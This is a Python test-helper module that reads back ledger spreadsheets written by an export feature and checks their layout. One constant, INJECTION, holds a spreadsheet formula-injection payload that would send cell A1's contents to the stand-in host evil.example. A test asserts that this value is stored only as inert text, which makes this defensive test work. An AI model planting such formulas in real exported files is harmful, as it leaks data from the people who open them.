"""For tests of exports: a ledger sheet read back as the table it holds (header, then data rows)."""

from __future__ import annotations

from io import BytesIO
from typing import Any

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from .writer import SERIAL


def list_rows(content: bytes, sheet: str | None = None) -> list[tuple[Any, ...]]:
    """The header row and the data rows of a ledger, without its title row and its 序号 column.

    Asserts the ledger layout on the way: a one-cell title row, the header with 序号 first, numbered rows. The
    notes under the table (``ListSheet.note``: text where a 序号 would be) are not rows of it: see ``notes``.
    """
    wb = load_workbook(BytesIO(content))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    title, header, data = rows[0], rows[1], rows[2:]
    data = [r for r in data if not isinstance(r[0], str)]
    assert title[0] and not any(title[1:]), title
    assert header[0] == SERIAL, header
    numbers = [r[0] for r in data if r[0] is not None]
    assert numbers == list(range(1, len(numbers) + 1)), numbers
    return [header[1:]] + [r[1:] for r in data]


def notes(content: bytes, sheet: str | None = None) -> list[str]:
    """The notes under a ledger's table (``ListSheet.note``), in order."""
    wb = load_workbook(BytesIO(content))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [r[0] for r in ws.iter_rows(min_row=3, values_only=True) if isinstance(r[0], str)]


INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def cells_holding(content: bytes, value: str) -> list[Cell]:
    """Every cell of every sheet whose value is exactly ``value`` (a formula cell's value is its formula text)."""
    wb = load_workbook(BytesIO(content))
    found = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == value]
    assert found, f"{value!r} is not in the workbook"
    return found


def assert_written_as_text(content: bytes, value: str = INJECTION) -> None:
    """``value`` is in the workbook as a string cell, never as a formula Excel would run."""
    assert {cell.data_type for cell in cells_holding(content, value)} == {"s"}
